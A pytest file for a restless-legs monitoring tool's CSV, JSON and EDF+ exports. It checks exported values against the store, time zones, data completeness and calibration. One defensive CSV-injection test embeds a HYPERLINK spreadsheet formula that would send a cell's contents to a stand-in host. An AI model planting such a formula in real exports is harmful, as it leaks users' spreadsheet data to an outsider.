"""CSV and JSON exports: the numbers are the store's, columns are stable and documented."""

from __future__ import annotations

import csv
import json
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest

from rls_monitor.errors import ConfigError, RLSMonitorError, StorageError
from rls_monitor.export import (
    MOVEMENT_COLUMNS,
    NIGHT_COLUMNS,
    export,
    load_nights,
    night_row,
    record_from_result,
)
from rls_monitor.export.tables import csv_text
from rls_monitor.nights.importing import import_recording
from rls_monitor.storage import Store
from tests.export.nightstore import DEVICE, START_UTC, SUBJECT, FixtureStore
from tests.storage.conftest import simulated_recording, threshold_scorer

REPO = Path(__file__).resolve().parents[2]


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_night_csv_equals_store(one_night: FixtureStore, tmp_path: Path) -> None:
    out = tmp_path / "nights.csv"
    with Store(one_night.path, readonly=True) as store:
        export(store, out, "csv")
        night_id = one_night.night_ids[0]
        result = store.get_result(night_id)
        info = store.get_night(night_id)
    assert result is not None
    header = out.read_text(encoding="utf-8").splitlines()[0]
    assert header == ",".join(c.name for c in NIGHT_COLUMNS)
    (row,) = _csv(out)
    assert int(row["night_id"]) == night_id
    assert row["subject"] == SUBJECT
    assert row["rules"] == result["rules"] == info.rules
    for column, value in [
        ("lm_count", result["counts"]["lm"]),
        ("clm_count", result["counts"]["clm"]),
        ("plm_count", result["counts"]["plm"]),
        ("series_count", result["counts"]["series"]),
        ("imi_n", result["imi"]["n"]),
        ("imi_10_to_90s", result["imi"]["n_10_to_90s"]),
    ]:
        assert int(row[column]) == value, column
    for column, value in [
        ("lm_per_h", result["indices"]["lm_per_h"]),
        ("plm_per_h", info.plm_per_h),
        ("periodicity_index", result["indices"]["periodicity_index"]),
        ("in_bed_s", info.in_bed_s),
        ("duration_s", result["duration_s"]),
        ("imi_geometric_mean_s", result["imi"]["geometric_mean_s"]),
    ]:
        assert float(row[column]) == value, column  # exact: CSV keeps the float's repr
    assert row["start_utc"] == "2026-11-24T22:15:03.250Z"
    assert row["device"] == DEVICE
    assert row["calibration"] == "six-pose"
    assert row["status"] == "complete"
    assert float(row["completeness_pct"]) == 100.0
    assert row["periodicity_interpretable"] in ("0", "1")
    assert row["lm_left"] == ""  # one band: no per-leg split


def test_movement_csv_equals_store(one_night: FixtureStore, tmp_path: Path) -> None:
    out = tmp_path / "movements.csv"
    with Store(one_night.path, readonly=True) as store:
        export(store, out, "csv", movements=True)
        moves = store.get_movements(one_night.night_ids[0])
    rows = _csv(out)
    assert [c for c in rows[0]] == [c.name for c in MOVEMENT_COLUMNS]
    assert len(rows) == len(moves) > 10
    for row, m in zip(rows, moves, strict=True):
        assert float(row["onset_s"]) == m["onset_s"]
        assert float(row["offset_s"]) == m["offset_s"]
        assert row["plm"] == ("1" if m["plm"] else "0")
        assert row["clm"] == ("1" if m["clm"] else "0")
        assert row["series_no"] == ("" if m["series"] < 0 else str(m["series"] + 1))
        onset_utc = datetime.fromisoformat(row["onset_utc"].replace("Z", "+00:00"))
        assert abs((onset_utc - START_UTC).total_seconds() - m["onset_s"]) < 1e-3
    imis = [float(r["imi_s"]) for r in rows[1:]]
    assert all(i > 0 for i in imis)


def test_json_has_the_column_dictionary_and_the_same_rows(
    one_night: FixtureStore, tmp_path: Path
) -> None:
    with Store(one_night.path, readonly=True) as store:
        export(store, tmp_path / "n.json", "json")
        export(store, tmp_path / "n.csv", "csv")
        result = store.get_result(one_night.night_ids[0])
    assert result is not None
    doc = json.loads((tmp_path / "n.json").read_text(encoding="utf-8"))
    assert doc["format"] == "rls-monitor-export" and doc["table"] == "nights"
    assert doc["rules"] == [result["rules"]]
    assert [c["name"] for c in doc["columns"]] == [c.name for c in NIGHT_COLUMNS]
    assert {c["name"]: c["unit"] for c in doc["columns"]}["plm_per_h"] == "1/h"
    (row,) = doc["rows"]
    assert row["plm_per_h"] == result["indices"]["plm_per_h"]
    assert row["periodicity_interpretable"] in (True, False)
    assert row["lm_left"] is None
    (csv_row,) = _csv(tmp_path / "n.csv")
    assert str(row["lm_count"]) == csv_row["lm_count"]


def test_columns_are_documented() -> None:
    doc = (REPO / "docs" / "exports.md").read_text(encoding="utf-8")
    for column in (*NIGHT_COLUMNS, *MOVEMENT_COLUMNS):
        assert re.search(rf"^\| `{column.name}` \|", doc, re.M), column.name
    names = [c.name for c in NIGHT_COLUMNS]
    assert len(names) == len(set(names))
    assert all(c.unit == "s" for c in NIGHT_COLUMNS if c.name.endswith("_s"))


def test_selection_by_subject_and_date(three_nights: FixtureStore) -> None:
    with Store(three_nights.path, readonly=True) as store:
        every = load_nights(store, tz=UTC)
        assert [r.night_id for r in every] == three_nights.night_ids
        assert [r.night_date for r in every] == [date(2026, 11, 24 + k) for k in range(3)]
        middle = load_nights(
            store, date_from=date(2026, 11, 25), date_to=date(2026, 11, 25), tz=UTC
        )
        assert [r.night_id for r in middle] == [three_nights.night_ids[1]]
        assert load_nights(store, subject="nobody") == []
        with pytest.raises(ConfigError, match="after"):
            load_nights(store, date_from=date(2026, 12, 1), date_to=date(2026, 11, 1))
        with pytest.raises(ConfigError, match="belongs to subject"):
            load_nights(store, night=three_nights.night_ids[0], subject="other")
        with pytest.raises(StorageError):
            load_nights(store, night=999)


def test_local_time_zone_and_night_date(three_nights: FixtureStore, tmp_path: Path) -> None:
    from zoneinfo import ZoneInfo

    with Store(three_nights.path, readonly=True) as store:
        (rec,) = load_nights(store, night=three_nights.night_ids[0], tz=ZoneInfo("Asia/Tokyo"))
    row = night_row(rec)
    # 22:15 UTC is 07:15 the next morning in Tokyo: the night's evening was the 25th there.
    assert row["start_local"] == "2026-11-25T07:15:03.250+09:00"
    assert row["timezone"] == "Asia/Tokyo"
    assert row["night_date"] == "2026-11-24"  # 07:15 - 12 h is still the evening before


def test_export_refuses_what_it_cannot_do(three_nights: FixtureStore, tmp_path: Path) -> None:
    with Store(three_nights.path, readonly=True) as store:
        with pytest.raises(ConfigError, match="one night"):
            export(store, tmp_path / "x.edf", "edf")
        with pytest.raises(ConfigError, match="format"):
            export(store, tmp_path / "x.xml", "xml")
        with pytest.raises(ConfigError, match="movements"):
            export(store, tmp_path / "x.edf", "edf", night=1, movements=True)
        with pytest.raises(RLSMonitorError, match="no scored night"):
            export(store, tmp_path / "x.csv", "csv", subject="nobody")


def test_record_from_an_unstored_result() -> None:
    from rls_monitor.events import EventList
    from rls_monitor.scoring import score

    onsets = 60.0 + 20.0 * np.arange(6.0)
    result = score(EventList(onsets, onsets + 2.0, duration_s=3600.0)).to_dict()
    rec = record_from_result(result, subject="X1", start_utc=START_UTC)
    row = night_row(rec)
    assert row["plm_count"] == 6 and row["plm_per_h"] == 6.0
    assert row["end_utc"] == (START_UTC + timedelta(hours=1)).isoformat(
        timespec="milliseconds"
    ).replace("+00:00", "Z")


def _event_night(store: Store, blocks: list[tuple[int, int]], device: str = "band-1") -> int:
    """A night of 25 Hz zero samples in blocks (first_seq, n), scored from a few events."""
    from rls_monitor.events import EventList
    from rls_monitor.scoring import score
    from rls_monitor.storage import Channel

    night = store.create_night(
        "P03", fs_hz=25.0, lsb_g=2.0**-12, start_utc=START_UTC, channels=[Channel("left", device)]
    )
    for first, n in blocks:
        store.append_samples(night, first, np.zeros((n, 3), np.int16))
    onsets = 10.0 + 20.0 * np.arange(5.0)
    store.save_score(night, score(EventList(onsets, onsets + 2.0, duration_s=200.0)).to_dict())
    store.finish_night(night)
    return night


def test_completeness_counts_the_samples_lost_in_gaps(tmp_path: Path) -> None:
    with Store(tmp_path / "gaps.sqlite") as store:
        whole = _event_night(store, [(0, 5000)])
        gappy = _event_night(store, [(0, 1000), (1500, 2000), (4000, 1000)])  # 1000 lost
        assert store.stored_samples() == {whole: 5000, gappy: 4000}
        assert store.get_night(gappy).n_samples == 5000  # the sequence end, gaps included
        export(store, tmp_path / "n.csv", "csv")
        (rec,) = load_nights(store, night=gappy)
    rows = {int(r["night_id"]): r for r in _csv(tmp_path / "n.csv")}
    assert float(rows[whole]["completeness_pct"]) == 100.0
    assert float(rows[whole]["data_lost_s"]) == 0.0
    assert float(rows[gappy]["completeness_pct"]) == 80.0
    assert float(rows[gappy]["data_lost_s"]) == 40.0  # 1000 samples at 25 Hz
    assert rec.completeness == pytest.approx(0.8)


def test_calibration_state_is_the_one_the_night_was_scored_with(tmp_path: Path) -> None:
    from tests.export.nightstore import CALIBRATION

    with Store(tmp_path / "cal.sqlite") as store:
        raw = _event_night(store, [(0, 2500)], device=DEVICE)
        store.set_night_calibration(raw, None)  # scored from the raw samples
        store.add_calibration(DEVICE, CALIBRATION, source="later")  # the band calibrated later
        calibrated = _event_night(store, [(0, 2500)], device=DEVICE)
        store.set_night_calibration(calibrated, [CALIBRATION])
        export(store, tmp_path / "n.csv", "csv")
        export(store, tmp_path / "raw.edf", "edf", night=raw)
        full = {r.night_id: r for r in load_nights(store)}  # whole results, one night at a time
    rows = {int(r["night_id"]): r for r in _csv(tmp_path / "n.csv")}
    assert rows[raw]["calibration"] == "none"  # not the band's calibration in force today
    assert rows[calibrated]["calibration"] == "six-pose"
    assert full[raw].calibration == "none" and full[raw].calibrations == (None,)
    assert full[calibrated].calibrations[0] == CALIBRATION
    # the EDF+ of the raw night holds the samples its score saw: uncalibrated zeros
    import pyedflib

    f = pyedflib.EdfReader(str(tmp_path / "raw.edf"))
    try:
        assert not np.any(f.readSignal(0, digital=True))
        assert "none; none" in f.getPrefilter(0)
    finally:
        f.close()


def test_a_label_cannot_become_a_spreadsheet_formula(tmp_path: Path) -> None:
    """CSV injection: a subject label such as =HYPERLINK(...) is text; numbers stay numbers."""
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    db = tmp_path / "n.sqlite"
    with Store(db) as store:
        for subject in (evil, "+1 night", "-x", "@SUM(A1)", "-3.5", "P01"):
            rec = simulated_recording(600.0)
            import_recording(store, rec, subject=subject, scorer=threshold_scorer)
        export(store, tmp_path / "nights.csv", "csv")
        export(store, tmp_path / "lm.csv", "csv", movements=True)
    with (tmp_path / "nights.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    subjects = [r["subject"] for r in rows]
    assert subjects == ["'" + evil, "'+1 night", "'-x", "'@SUM(A1)", "-3.5", "P01"]
    for row in rows:  # every number is still a plain number a spreadsheet reads as one
        float(row["night_id"])
        float(row["plm_per_h"])
        assert not row["plm_per_h"].startswith("'")
    with (tmp_path / "lm.csv").open(newline="", encoding="utf-8") as fh:
        lm = list(csv.DictReader(fh))
    assert lm and all(not r["subject"].startswith(("=", "+", "@", "\t")) for r in lm)
    assert all(float(r["onset_s"]) >= 0.0 for r in lm)


@pytest.mark.parametrize(
    ("text", "written"),
    [("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1e3", "-1e3"), ("a=b", "a=b")],
)
def test_csv_text_defuses_formulas_only(text: str, written: str) -> None:
    assert csv_text(text) == written
